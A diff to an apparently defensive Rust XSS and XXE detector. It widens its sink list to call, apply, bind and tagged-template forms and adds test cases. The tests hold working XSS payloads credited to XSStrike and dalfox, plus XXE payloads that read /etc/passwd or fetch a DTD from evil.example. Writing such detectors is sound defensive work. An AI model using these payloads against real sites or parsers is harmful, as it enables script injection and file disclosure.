@@ -98,8 +98,16 @@ const SINKS: &[&str] = &[
     // A sink called through Function.prototype, and an element made by script.
     "eval.call(",
     "eval.apply(",
+    "eval.bind(",
     "alert.call(",
     "alert.apply(",
+    "alert.bind(",
+    "prompt.call(",
+    "prompt.apply(",
+    "prompt.bind(",
+    "confirm.call(",
+    "confirm.apply(",
+    "confirm.bind(",
     "createelement(",
 ];
 
@@ -282,11 +290,12 @@ fn js_call(v: &[u8]) -> bool {
             }
             // `=alert,` and a call after it.
             b'=' => memchr::memchr(b'(', rest).is_some(),
-            // `(alert)(`, `(z=alert)(` (AngularJS expressions), or `f(alert)` (not
-            // `f(prompt)`, `f(eval)`: code names variables so, `input(prompt)`).
+            // `(alert)(`, `(prompt)`` ` (a tagged template calls it too), `(z=alert)(`
+            // (AngularJS expressions), or `f(alert)` (not `f(prompt)`, `f(eval)`: code
+            // names variables so, `input(prompt)`).
             c => {
                 let passable = matches!(c, b'a' | b'A' | b'c' | b'C');
-                let called = rest.first() == Some(&b'(');
+                let called = matches!(rest.first(), Some(b'(' | b'`'));
                 (before == Some(b'=') && called)
                     || before == Some(b'(')
                         && (called
@@ -618,6 +627,12 @@ mod tests {
             "top['al\\x65rt'](1)",
             "self[8680439..toString(30)](1)",
             "';WINDOW['ale'+'rt'](document.domain)//",
+            // XSStrike's and dalfox's: a parenthesised sink called by a tagged
+            // template, sinks called through `call`, `apply` and `bind`.
+            "&lt;details\tontoggle=(prompt)``\rx>",
+            "onload=confirm.call(null,1) class=dalfox ",
+            "<datalist onload=alert.bind()(1) class=dalfox></datalist>",
+            "\"onpointerout=prompt.apply(null,1) class=dalfox ",
             // XML that has its parser fetch or expand what the sender chose (XXE).
             "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
             "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
@@ -655,6 +670,9 @@ mod tests {
             "level=alert;b(2)",
             "type=alert; see (notes)",
             "answer = input(prompt)",
+            "see (prompt) `code`",
+            "the levels (alert) ` and (prompt) `",
+            "call(prompt.text)",
             "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><p>hi</p>",
             "<!DOCTYPE html><p>SYSTEM requirements</p>",
             "<!-- ENTITY -->",
